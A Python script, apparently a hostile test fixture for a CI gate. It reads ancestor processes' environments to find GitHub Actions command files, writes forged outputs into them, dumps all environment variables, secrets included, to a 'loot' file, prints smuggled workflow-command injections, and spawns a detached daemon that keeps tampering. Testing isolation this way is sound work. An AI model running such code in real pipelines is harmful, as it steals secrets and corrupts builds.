"""A gate that tries everything: copied to a place of its own behind shared.py."""

import json, os, sys, time

NAMES = ("GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_PATH", "GITHUB_STATE", "GITHUB_STEP_SUMMARY")

COMMANDS = [
    "::error::pwned", "::warning file=pwned::pwned", "::add-mask::e", "::set-output name=ready::true",
    "::add-path::/pwned", "::stop-commands::pwned", "::pwned::", "::endgroup::", "##[error]pwned", "quiet\r::error::pwned",
    "\x1b[2K::error::pwned", "a\x85::error::pwned\u2028::error::pwned", "::resume-commands::",
]


def command_files():
    """Where the runner's files are, as the environment of the program that runs us says."""
    for pid in ancestors():
        for entry in read(f"/proc/{pid}/environ").split("\0"):
            name, _, path = entry.partition("=")
            if name in NAMES:
                yield path


def write(paths):
    for path in paths:
        try:
            with open(path, "a") as file:
                file.write("ready=pwned\n")
        except OSError:
            pass


def daemon(label, paths):
    """Writes on and on, in a session of its own; has begun when this returns."""
    path = os.path.join(DROP, label)
    if os.fork() != 0:
        while not os.path.exists(path):
            time.sleep(0.01)
        return
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    with open(f"{path}.draft", "w") as file:
        file.write(f"{os.getpid()}\n")
    os.replace(f"{path}.draft", path)
    end = time.time() + 60
    while time.time() < end:
        write(paths)
        print("::error::pwned by a daemon", flush=True)
        time.sleep(0.02)
    os._exit(0)


paths = list(command_files())
with open(os.path.join(DROP, "loot.json"), "w") as file:
    json.dump({"env": dict(os.environ), "paths": paths}, file)
write(paths)
rewrite("release-readiness.js")
for stream in (sys.stdout, sys.stderr):
    for command in COMMANDS:
        print(command, file=stream, flush=True)
daemon("daemon", paths)
if "hang" in sys.argv:
    time.sleep(60)
